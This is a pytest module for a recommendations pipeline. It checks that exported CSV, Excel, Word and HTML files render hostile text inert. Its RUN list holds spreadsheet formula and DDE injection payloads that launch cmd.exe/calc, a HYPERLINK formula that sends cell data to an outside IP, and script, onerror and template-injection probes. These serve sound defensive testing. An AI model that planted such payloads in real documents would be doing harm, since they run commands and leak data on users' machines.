"""Texts that a spreadsheet, a word processor or a browser would run, in everything that is written of them.

Each text of a publication, of a list and of the Index begins so; every kind of file that comes of them is opened here.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pandas as pd
import pytest
from lxml import etree, html

from dashboard import given
from pipeline import lists
from pipeline.adopting import adopt
from pipeline.labelling import label_file
from pipeline.measured import evaluate
from pipeline.publish import write
from pipeline.publish.report import write_report
from pipeline.publish.reviewing import export as export_for_review
from pipeline.publish.workbook import write_workbook
from pipeline.records import Result
from pipeline.uhri.export import import_export
from pipeline.uhri.labels import write_labels
from tests.pipeline import factories as make
from tests.pipeline.uhri.export_files import record
from tests.pipeline.uhri.export_files import write as export_of_the_index

RUN = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)> {{7*7}} ${x}",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "https://192.0.2.1/x",
    "'=1+1",
)
ASKED = " The State party should open the schools of every island to all children with disabilities, and its ferries."
TEXTS = [start + ASKED for start in RUN]
STARTS = tuple("=+-@\t\r\n＝＋－＠")
TODAY = dt.date(2026, 3, 2)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with every file that suivi writes of such texts."""
    folder = tmp_path_factory.mktemp("written")
    tables = folder / "tables"
    head = make.document(title=RUN[0], source_path="=1+1.pdf", job_number="@x", paragraphs=len(RUN))
    numbers = [str(number) for number in range(1, len(RUN) + 1)]
    result = Result(
        document=head,
        paragraphs=tuple(
            make.paragraph(number, head.document_id, text=text, heading=text, heading_path=(text, text))
            for number, text in zip(numbers, TEXTS, strict=True)
        ),
        recommendations=tuple(
            make.recommendation(
                number,
                None,
                head.document_id,
                text=text,
                lead_in=text,
                concern_paragraph_id=f"{head.document_id}#{number}",
            )
            for number, text in zip(numbers, TEXTS, strict=True)
        ),
        classifications=tuple(
            make.classification(f"{head.document_id}#{number}", evidence=text)
            for number, text in zip(numbers, TEXTS, strict=True)
        ),
        issues=tuple(make.issue(document_id=head.document_id, message=text) for text in TEXTS),
    )
    write([result], tables)
    index = [record(number, Text=text) for number, text in enumerate(TEXTS, start=1)]
    import_export(export_of_the_index(folder / "index.json", index), tables)
    write_labels(tables, "right", folder / "index_labels.csv")
    write_workbook(tables, folder / "follow_up.xlsx", language="fr", state=None, today=TODAY)
    export_for_review(tables, folder / "review.xlsx", most=100)
    for name in ("report.docx", "report.html"):
        write_report(tables, "MRV", folder / name, language="en", today=TODAY)
    evaluate(tables, folder / "evaluation", "right")
    theirs = lists.write(
        folder / "theirs.xlsx",
        {"list": (("=code", "text", "status"), [(RUN[number], text, RUN[3]) for number, text in enumerate(TEXTS)])},
    )[0]
    for ending in ("csv", "xlsx"):
        label_file(theirs, "text", folder / f"labels.{ending}", language="en")
        adopt(theirs, tables, folder / f"matched.{ending}", reviewer="a", now=make.NOON, state="MRV", sure=0.8)
    rows = pd.DataFrame({"text": TEXTS, "heading": TEXTS})
    (folder / "page.csv").write_bytes(given.csv(rows))
    (folder / "page.xlsx").write_bytes(given.xlsx(rows))
    return folder


def _cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            yield from row


def test_no_cell_of_a_csv_file_is_a_formula(written: Path) -> None:
    files = sorted(written.rglob("*.csv"))
    assert {path.name for path in files} >= {
        "recommendations.csv",
        "uhri.csv",
        "index_labels.csv",
        "mistakes.csv",
        "labels.csv",
        "matched.csv",
        "page.csv",
    }
    number = re.compile(r"[+-]?\d+([.,]\d+)?")
    held = {path: [cell for cell in _cells(path) if cell.startswith(STARTS)] for path in files}
    assert {path.name: cells for path, cells in held.items() if not all(map(number.fullmatch, cells))} == {}
    for name in ("tables/recommendations.csv", "labels.csv", "matched.csv", "page.csv"):
        found = "".join(_cells(written / name))
        assert all(start.strip() in found for start in RUN), name


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(written: Path) -> None:
    files = sorted(written.rglob("*.xlsx"))
    assert {path.name for path in files} == {
        "follow_up.xlsx",
        "labels.xlsx",
        "matched.xlsx",
        "page.xlsx",
        "review.xlsx",
        "theirs.xlsx",
    }
    for path in files:
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        sheets = [data for name, data in parts.items() if name.startswith("xl/worksheets/sheet")]
        assert any(b"calc" in data for data in (*sheets, parts.get("xl/sharedStrings.xml", b""))), path
        assert not [data for data in sheets if re.search(rb"<(f|hyperlink)[ >]", data)], path
        assert not [name for name in parts if "externalLink" in name or "connections" in name or "vba" in name], path
        assert not [name for name, data in parts.items() if b'TargetMode="External"' in data], path


def test_no_paragraph_of_a_report_is_markup_or_a_field(written: Path) -> None:
    page = html.fromstring((written / "report.html").read_bytes())
    assert page.xpath("//script | //*[@onerror] | //iframe | //object") == []
    assert all(each.get("src").startswith("data:image/") for each in page.iter("img"))  # its own charts
    words = "".join(page.text_content().split())
    document = docx.Document(str(written / "report.docx"))
    assert (
        list(document.element.iter("{*}instrText", "{*}fldSimple")) == []
    )  # of the body: page numbers stand in the footer
    assert not [part for part in document.part.rels.values() if part.is_external]
    printed = "".join("".join(etree.tostring(document.element.body, method="text", encoding="unicode")).split())
    for start in RUN:
        assert "".join(start.split()) in words and "".join(start.split()) in printed, start
